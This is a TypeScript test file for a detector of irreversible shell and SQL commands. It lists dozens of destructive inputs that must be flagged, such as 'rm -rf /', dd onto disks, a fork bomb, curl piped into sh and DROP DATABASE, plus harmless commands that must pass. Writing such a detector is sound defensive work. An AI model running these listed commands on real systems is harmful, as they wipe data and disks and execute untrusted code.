import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findDangers, findSqlDangers } from './find-dangers.ts';

describe('findDangers', () => {
  it.each([
    'rm -rf /',
    'rm -fr /',
    'rm -r -f /*',
    'rm --recursive --force /',
    'rm -r\'f\' "/"',
    'cd /tmp && rm -rf "$DIR"/',
    'rm -rf $DIR/*',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's own syntax
    'rm -rf ${DIR}/',
    'rm -rf "$(cat dir)"/',
    'rm -rf ~',
    'rm -rf ~/',
    'rm -rf $HOME',
    'rm -rf /var/lib/*',
    'rm -rf /etc/',
    'rm -rf // ',
    'rm -rf --no-preserve-root /x',
    'sudo rm -rf /',
    'sudo -u root -- rm -rf /',
    'env A=b rm -rf /',
    'ls | xargs -n 1 rm -rf /',
    "sh -c 'rm -rf /'",
    'bash -lc "rm -rf $DIR/"',
    'timeout -s KILL 5 nice -n 3 rm -rf /',
    'echo $(rm -rf /)',
    'echo "`rm -rf /`"',
    'x=$(rm -rf /)',
    'if true; then rm -rf /; fi',
    'for i in 1 2; do rm -rf /; done',
    'f() { rm -rf /; }; f',
    "ssh host 'rm -rf /'",
    'ssh -p 22 host rm -rf /',
    'bash <<EOF\nrm -rf /\nEOF',
    "bash <<< 'rm -rf /'",
    'eval "rm -rf /"',
    "su - -c 'rm -rf /'",
    'docker exec -it web rm -rf /',
    'docker compose -f x.yml exec web rm -rf /',
    'kubectl exec pod -- rm -rf /',
    'find . -exec rm -rf / \\;',
    'find / -delete',
    '$ rm -rf /',
    '/bin/rm -rf /',
    'mv data /dev/null',
    'mkfs.ext4 /dev/sdb1',
    'mkfs -t xfs /dev/sdb',
    'dd if=/dev/zero of=/dev/sda bs=1M',
    'echo x > /dev/sda',
    'cat x | tee /dev/nvme0n1',
    '{ echo x; } > /dev/sda',
    'wipefs -a /dev/sdb',
    'chmod -R 777 /srv/app',
    'chmod --recursive a+rwx .',
    'chown -R app:app /',
    'chmod -R 750 /etc',
    'curl -fsSL https://x.example/i.sh | sh',
    'curl https://x.example | sudo bash -s -- --yes',
    'wget -qO- x | tee i.sh | bash',
    'bash <(curl -s x)',
    'sh -c "$(curl -fsSL x)"',
    'source <(wget -qO- x)',
    'eval "$(curl x)"',
    'curl x | python3 -',
    'echo cm0= | base64 -d | sh',
    ':(){ :|:& };:',
    'bomb() { bomb | bomb & }; bomb',
    'docker system prune -af',
    'docker system prune --volumes',
    'docker volume rm data',
    'docker volume prune -f',
    'docker compose down -v',
    'docker-compose -f a.yml down --volumes',
    'kubectl delete ns helix',
    'kubectl --namespace helix delete pvc data-0',
    'kubectl delete pods --all',
    'terraform destroy -auto-approve',
    'git push --force origin main',
    'git push -f',
    'git push origin +main',
    'redis-cli FLUSHALL',
    'docker exec redis redis-cli -n 1 flushdb',
    'psql -c "DROP DATABASE helix"',
    'psql -U x -c"delete from a"',
    'docker exec db psql -U postgres --command="TRUNCATE a"',
    "mysql -e 'update a set b = 1'",
    'psql <<EOF\nDROP TABLE a;\nEOF',
    "echo 'drop table a' | psql",
    'cat <<EOF | psql\ndelete from a;\nEOF',
    'iptables -F',
    'systemctl disable docker',
    'sudo reboot',
    'shutdown -r now',
  ])('finds what cannot be taken back in %s', (code) => {
    expect(findDangers(code)).toHaveLength(1);
  });

  it.each([
    'docker restart redis',
    'echo "rm -rf /"',
    "grep 'DROP TABLE' x.log",
    'rm -rf /srv/app/cache',
    'rm -f /etc/app.conf',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's own syntax
    'rm -rf "${DIR:?}"/',
    'rm -rf "$DIR"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's own syntax
    'rm -rf ${DIR:-/tmp/x}/*',
    'DIR=/tmp/x; rm -rf $DIR/*',
    'export DIR=/tmp/x\nrm -rf "$DIR"/',
    'for d in a b; do rm -rf $d/*; done',
    'rm -rf ./build',
    'rm -rf $HOME/.cache/app',
    'rm -rf *.tmp',
    'find / -name core -delete',
    'dd if=/dev/sda of=/srv/rescue.img',
    'dd if=/dev/zero of=/dev/null',
    'echo x > /dev/null',
    'cat x 2>/dev/stderr',
    'curl -s x | jq .',
    'curl -s x | python3 -m json.tool',
    "curl -s x | sh -c 'cat'",
    'curl -sO https://x.example/i.sh && less i.sh',
    'chmod 600 /letsencrypt/acme.json',
    'chmod -R 750 /srv/app',
    'chown -R app /var/lib/app',
    'docker system prune',
    'docker image prune --force',
    'docker system df --verbose',
    'kubectl delete pod web-1',
    'kubectl get pods --all-namespaces',
    'git push --force-with-lease',
    'psql -c "SELECT count(*) FROM a"',
    'psql -c "DELETE FROM a WHERE id = 3"',
    'psql -c "SELECT \'drop table a\'"',
    'psql -c "EXPLAIN DELETE FROM a"',
    'redis-cli ping',
    'terraform plan -destroy',
    'iptables --list DOCKER-USER --numeric',
    'systemctl restart docker',
    'kill -9 1234',
    'f() { f2 | f3; }',
    'rm',
    '',
    'if then (( {',
  ])('lets %s pass', (code) => {
    expect(findDangers(code)).toEqual([]);
  });

  it('says where, and what happens', () => {
    const code = 'cd /srv && sudo rm -rf "$DIR"/ && ls';
    expect(findDangers(code)).toEqual([
      {
        start: 16,
        end: 30,
        reason: 'deletes the whole file system where the variable is empty',
        harm: 'loses',
      },
    ]);
  });

  it('tells an interruption from a loss', () => {
    expect(findDangers('reboot')?.[0]).toMatchObject({ harm: 'interrupts' });
  });

  it.each(['(', '$(', '`', '"$(', '{a,', '${a:-', '<<a ', 'a|', 'f(){ ', 'if '])(
    'is quick with a lot of %s, or says that it cannot read it',
    (unit) => {
      expect(() => findDangers(unit.repeat(100_000))).not.toThrow();
      expect(() => findDangers(unit.repeat(Math.floor(16_000 / unit.length)))).not.toThrow();
    },
  );

  it('reads anything without throwing', () => {
    const unit = fc.constantFrom(
      ...'rm -f/ \n\t\'"\\$`|&;<>()*?[]{}~!#=:é🙂\0',
      'sudo ',
      'sh -c ',
      '$(',
      '<<EOF\n',
      '-rf /',
    );
    fc.assert(fc.property(fc.string({ unit }), (code) => Array.isArray(findDangers(code))));
  });
});

describe('findSqlDangers', () => {
  it('looks at whole statements, not at comments and texts', () => {
    const code =
      "-- DROP TABLE a;\nSELECT ';drop table b';\nDELETE FROM c;\nUPDATE d SET e = 1 WHERE f = 2;\nTRUNCATE g";
    expect(findSqlDangers(code).map(({ start, end }) => code.slice(start, end))).toEqual([
      'DELETE FROM c',
      'TRUNCATE g',
    ]);
  });
});
